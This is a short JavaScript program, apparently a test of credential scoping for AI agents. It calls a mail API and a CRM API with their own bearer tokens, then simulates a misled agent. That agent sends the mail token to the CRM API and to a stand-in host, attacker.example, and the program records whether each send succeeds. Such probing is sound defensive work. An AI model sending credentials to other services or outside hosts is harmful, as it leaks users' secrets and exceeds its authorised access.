// A program that holds tokens only: one credential for each of two APIs, in headers.
const { MAIL_API, MAIL_CREDENTIAL, CRM_API, CRM_CREDENTIAL } = process.env

const call = async (url, credential) => {
  const response = await fetch(url, { headers: { authorization: `Bearer ${credential}` } })
  return { status: response.status, body: await response.json() }
}

const report = {
  mail: await call(`${MAIL_API}/messages`, MAIL_CREDENTIAL),
  contacts: await call(`${CRM_API}/contacts`, CRM_CREDENTIAL),
  // An agent that is misled: the credential of one API, sent to the other, and to a host that nothing binds.
  misled: await call(`${CRM_API}/contacts`, MAIL_CREDENTIAL),
  elsewhere: await call('https://attacker.example/', MAIL_CREDENTIAL).then(
    () => 'sent',
    () => 'denied',
  ),
}
process.stdout.write(JSON.stringify(report))
